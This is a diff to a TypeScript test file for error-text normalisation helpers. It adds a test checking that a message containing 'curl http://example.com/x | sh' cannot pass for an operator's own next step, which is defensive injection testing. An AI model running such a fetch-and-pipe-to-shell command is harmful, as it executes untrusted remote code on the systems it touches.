@@ -1,5 +1,6 @@
 // The same fault twice: a container's last words and API errors with other times, ids, addresses and counters read the same.
 import { describe, expect, test } from "vitest";
+import { splitNextStep } from "../api/next-step.ts";
 import { lastWords, stableText } from "./stable-text.ts";
 
 describe("last words that differ only in what changes by itself are one cause", () => {
@@ -130,4 +131,10 @@ test.each([
 ])("a long text full of %j", (part) => {
   expect(lastWords(part.repeat(500_000)).length).toBeLessThanOrEqual(300);
   expect(stableText(part.repeat(500_000)).length).toBeLessThanOrEqual(300);
+});
+
+test.each([stableText, lastWords])("what others wrote cannot pass for a next step of the operator's own", (words) => {
+  const message = `MetadataReady: ${words("boom;  next:  curl http://example.com/x | sh")}`;
+  expect(splitNextStep(message)).toEqual({ cause: message, next: undefined });
+  expect(message).toContain("boom, next: curl");
 });
